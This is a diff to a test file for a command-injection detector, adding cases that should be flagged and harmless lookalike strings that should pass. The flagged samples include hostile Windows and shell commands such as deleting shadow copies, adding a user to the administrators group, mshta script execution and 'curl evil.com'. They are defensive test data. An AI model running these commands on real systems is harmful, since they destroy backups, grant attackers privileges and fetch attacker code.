@@ -51,3 +51,33 @@ describe('command injection: a message of several lines', () => {
     expect(detectCmd(view, 1, undefined, 'ok%0aid lol')?.rule).toBe('cmd-separator-command')
   })
 })
+
+/**
+ * A command that starts the value, judged on all its arguments (the gate reads six words, as the
+ * judge does), and a Windows tool's subcommand before an option or a path.
+ */
+describe('command injection: a leading command line', () => {
+  flagsAndLeaves(
+    [
+      ['vssadmin delete shadows /all /quiet', 'cmd-command-line'],
+      ['wmic process call create "calc.exe"', 'cmd-command-line'],
+      ['curl evil.com', 'cmd-command-line'],
+      ['chmod +x run', 'cmd-command-line'],
+      ['net localgroup administrators hacker /add', 'cmd-command-line'],
+      ['reg add HKCU\\Software\\x /v y /d z', 'cmd-command-line'],
+      ['mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""calc""")', 'cmd-command-line'],
+      ['x && a=b curl evil.com', 'cmd-separator-command'],
+    ],
+    [
+      'net user accounts are shared',
+      'curl is a great tool',
+      'ls (see #12)',
+      'cat food is great.',
+      'mshta is a windows tool',
+      'find the bug in app.js please',
+      '<n3tg0d> has /usr/bin/emacs been put into /etc/shells yet?  :P',
+      'postgres=> table passwd;',
+    ],
+    true,
+  )
+})
